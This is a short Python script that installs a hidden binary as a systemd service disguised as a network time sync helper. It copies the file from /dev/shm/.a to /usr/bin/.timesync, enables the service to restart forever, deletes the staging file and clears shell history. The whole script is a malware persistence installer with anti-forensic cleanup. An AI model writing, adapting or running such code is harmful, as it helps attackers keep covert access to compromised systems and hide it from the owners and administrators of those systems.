#!/usr/bin/env python3
import argparse, os, subprocess, shutil

UNIT = """[Unit]
Description=Network Time Sync Helper
After=network-online.target

[Service]
Type=simple
ExecStart={exe}
Restart=always
RestartSec=30

[Install]
WantedBy=multi-user.target
"""

def install(name, exe, src):
    shutil.copy(src, exe)
    os.chmod(exe, 0o755)
    with open(f"/etc/systemd/system/{name}.service", "w") as f:
        f.write(UNIT.format(exe=exe))
    subprocess.run(["systemctl", "daemon-reload"], check=False)
    subprocess.run(["systemctl", "enable", "--now", f"{name}.service"], check=False)

def main():
    p = argparse.ArgumentParser()
    p.add_argument("--name", default="timesyncd-helper")
    p.add_argument("--exe", default="/usr/bin/.timesync")
    p.add_argument("--src", default="/dev/shm/.a")
    a = p.parse_args()
    install(a.name, a.exe, a.src)
    os.remove(a.src)
    subprocess.run(["history", "-c"], shell=True)

if __name__ == "__main__":
    main()
